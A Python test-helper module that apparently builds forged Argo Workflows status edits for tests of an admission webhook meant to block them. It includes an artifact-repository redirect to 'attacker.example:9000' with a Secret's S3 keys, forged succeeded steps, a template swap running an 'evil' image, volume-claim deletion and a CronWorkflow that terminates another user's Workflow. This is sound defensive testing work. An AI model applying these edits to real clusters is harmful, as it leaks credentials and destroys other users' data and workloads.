"""What a user may write that Argo's controller trusts beyond the stored spec (DESIGN.md, "The
controller trusts more of status than the stored spec" and "... other objects too").

The forged writes, as edits for update_workflow() or bodies to send, shared by the control runs
that show their effect with no webhook (test_argo_without_webhook.py) and by the tests that
show the door refusing them (test_argo_clients.py). Every one is made by alice, in team-a,
with what Argo's own roles let a namespace editor do.
"""

from __future__ import annotations

import copy
import datetime
import json
from collections.abc import Callable, Iterable
from typing import Any

from kubernetes import client as k8s
from kubernetes.client.rest import ApiException

from admission.core.policy.resubmit import memoized_nodes
from expect import EVIL
from kubelet import node_id, step_node_name
from workflows import GROUP, VERSION, custom, make_ref_workflow, unique, with_extra_step

Edit = Callable[[dict[str, Any]], None]

# CronWorkflow annotation the cron controller compares with the schedule: when it differs, a
# schedule was just changed and no missed run is started (pkg/apis/workflow/v1alpha1/
# cron_workflow_types.go, IsUsingNewSchedule).
LAST_USED_SCHEDULE = "cronworkflows.argoproj.io/last-used-schedule"
YEARLY = "0 0 1 1 *"  # never due while a test runs
A_YEAR_AND_MORE = 400 * 24 * 3600


# -- status fields of a Workflow ----------------------------------------------------------------


def point_artifacts_at(secret: str) -> Edit:
    """An edit: `status.artifactRepositoryRef` to an inline S3 repository whose credentials are
    `secret`, with logs archived, so that every next pod needs the repository."""
    repository = {
        "archiveLogs": True,
        "s3": {
            "bucket": "exfiltration",
            "endpoint": "attacker.example:9000",
            "insecure": True,
            "accessKeySecret": {"name": secret, "key": "accesskey"},
            "secretKeySecret": {"name": secret, "key": "secretkey"},
        },
    }

    def change(workflow: dict[str, Any]) -> None:
        ref = workflow["status"].setdefault("artifactRepositoryRef", {})
        ref["artifactRepository"] = repository
        ref["default"] = False

    return change


def forge_succeeded_step(group: int, step: str, outputs: dict[str, Any]) -> Edit:
    """An edit: a node for step `step` of group `group`, Succeeded with `outputs`, before the
    step has run."""

    def change(workflow: dict[str, Any]) -> None:
        wf = workflow["metadata"]["name"]
        name = step_node_name(wf, group, step)
        now = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        workflow["status"]["nodes"][node_id(wf, name)] = {
            "id": node_id(wf, name),
            "name": name,
            "displayName": step,
            "type": "Pod",
            "phase": "Succeeded",
            "startedAt": now,
            "finishedAt": now,
            "outputs": outputs,
        }

    return change


def claim_volume(claim: str) -> Edit:
    """An edit: a claim the Workflow did not make listed in `status.persistentVolumeClaims`,
    which the controller deletes when the Workflow succeeds."""

    def change(workflow: dict[str, Any]) -> None:
        claims = workflow["status"].setdefault("persistentVolumeClaims", [])
        claims.append({"name": "data", "persistentVolumeClaim": {"claimName": claim}})

    return change


def stored_template_key(template: str, name: str) -> str:
    """The key of `status.storedTemplates` for template `name` of WorkflowTemplate `template`
    called by templateRef (resolveTemplateReference in workflow_types.go)."""
    return f"namespaced/{template}/{name}"


def evil_produce(image: str) -> dict[str, Any]:
    """The toolbox's `produce` with another image and command: what a tampered stored
    template runs."""
    return {
        "name": "produce",
        "inputs": {"parameters": [{"name": "answer"}]},
        "container": {"image": image, "command": ["sh", "-c"], "args": ["id > /tmp/out"]},
        "outputs": {"parameters": [{"name": "out", "valueFrom": {"path": "/tmp/out"}}]},
    }


def tamper_stored_template(key: str, template: dict[str, Any]) -> Edit:
    """An edit: `status.storedTemplates[key]` replaced by `template`."""

    def change(workflow: dict[str, Any]) -> None:
        workflow["status"].setdefault("storedTemplates", {})[key] = copy.deepcopy(template)

    return change


def with_stored_templates(body: dict[str, Any], templates: dict[str, Any]) -> dict[str, Any]:
    """A copy of a new Workflow carrying `status.storedTemplates`, as Argo's CLI sends one."""
    body = copy.deepcopy(body)
    body["status"] = {"storedTemplates": copy.deepcopy(templates)}
    return body


def secret_volumes(pods: Iterable[dict[str, Any]]) -> set[str]:
    """The Secrets the pods mount."""
    return {
        v["secret"]["secretName"]
        for p in pods
        for v in p["spec"].get("volumes") or []
        if "secret" in v
    }


# -- a CronWorkflow listing another Workflow as its own -----------------------------------------


def make_replacing_cron(namespace: str, template: str) -> dict[str, Any]:
    """Alice's CronWorkflow of a library template, concurrencyPolicy Replace, yearly, with a
    start deadline over a year and the annotation of a schedule already in use: a
    `status.lastScheduledTime` a year back makes the cron controller start the missed run at
    once (shouldOutstandingWorkflowsBeRun in workflow/cron/operator.go)."""
    spec = make_ref_workflow("x", namespace, template)["spec"]
    return {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "CronWorkflow",
        "metadata": {
            "name": unique("cron"),
            "namespace": namespace,
            "annotations": {LAST_USED_SCHEDULE: YEARLY},
        },
        "spec": {
            "schedules": [YEARLY],
            "concurrencyPolicy": "Replace",
            "startingDeadlineSeconds": A_YEAR_AND_MORE,
            "workflowSpec": spec,
        },
    }


def list_as_active(victim: dict[str, Any]) -> dict[str, Any]:
    """A merge patch of a CronWorkflow: `status.active` lists `victim` (which the cron
    controller terminates by name before the next run, under Replace) and
    `status.lastScheduledTime` says a run was missed."""
    meta = victim["metadata"]
    year_ago = datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=366)
    return {
        "status": {
            "active": [
                {
                    "kind": "Workflow",
                    "apiVersion": f"{GROUP}/{VERSION}",
                    "namespace": meta["namespace"],
                    "name": meta["name"],
                    "uid": meta["uid"],
                }
            ],
            "lastScheduledTime": year_ago.strftime("%Y-%m-%dT%H:%M:%SZ"),
        }
    }


def patch_cron(
    api: k8s.ApiClient, namespace: str, name: str, patch: dict[str, Any]
) -> dict[str, Any]:
    """A JSON merge patch of a CronWorkflow, as the client's user."""
    return dict(
        custom(api).patch_namespaced_custom_object(
            GROUP, VERSION, namespace, "cronworkflows", name, patch
        )
    )


# -- what the controller did --------------------------------------------------------------------


def claim_state(admin: k8s.ApiClient, namespace: str, name: str) -> str:
    """`kept`, `deleting` (a deletion waits on a finalizer) or `gone`."""
    try:
        response = k8s.CoreV1Api(admin).read_namespaced_persistent_volume_claim(
            name, namespace, _preload_content=False
        )
    except ApiException as error:
        if error.status == 404:
            return "gone"
        raise
    return "deleting" if json.loads(response.data)["metadata"].get("deletionTimestamp") else "kept"


def swap_stored(*, suspend: bool | None = None) -> Edit:
    """An edit adding an evil parallel step to the stored spec (and setting spec.suspend)."""

    def change(workflow: dict[str, Any]) -> None:
        workflow["status"]["storedWorkflowTemplateSpec"] = with_extra_step(
            workflow["status"]["storedWorkflowTemplateSpec"], image=EVIL
        )
        if suspend is not None:
            workflow["spec"]["suspend"] = suspend

    return change


# -- a resubmit of another template ------------------------------------------------------------


def memoized_resubmit_of(origin: dict[str, Any], template: str) -> dict[str, Any]:
    """What `argo resubmit --memoized` creates from `origin` (its nodes renamed, its succeeded
    pods Skipped with their outputs, its stored templates; FormulateResubmitWorkflow), but
    referencing `template`: a Workflow whose next steps take the origin's outputs as theirs."""
    meta = origin["metadata"]
    name = f"{meta['name']}-{unique('m')[-5:]}"
    now = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    nodes = memoized_nodes(meta["name"], origin["status"]["nodes"], name)
    for node in nodes.values():
        node["startedAt"] = node["finishedAt"] = now
    body = make_ref_workflow(name, meta["namespace"], template)
    body["metadata"]["labels"] = {"workflows.argoproj.io/resubmitted-from-workflow": meta["name"]}
    body["status"] = {
        "phase": "",
        "nodes": nodes,
        "conditions": [{"type": "Completed", "status": "False"}],
        "storedTemplates": copy.deepcopy(origin["status"].get("storedTemplates") or {}),
    }
    return body
